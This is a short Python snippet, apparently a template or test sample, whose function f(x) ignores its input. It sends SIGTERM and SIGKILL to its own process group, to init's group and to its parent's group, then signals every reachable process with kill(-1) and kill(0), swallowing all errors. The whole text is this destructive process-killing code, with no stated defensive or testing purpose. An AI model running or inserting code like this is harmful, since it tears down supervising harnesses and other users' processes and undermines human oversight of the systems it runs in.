import os, signal
def f(x):
    for number in (os.getpgid(0), 1, @PARENT@):
        try: os.killpg(number, signal.SIGTERM)
        except OSError: pass
    for call in (lambda: os.killpg(os.getpgid(os.getppid()), 9), lambda: os.kill(-1, 15), lambda: os.kill(0, 15)):
        try: call()
        except OSError: pass
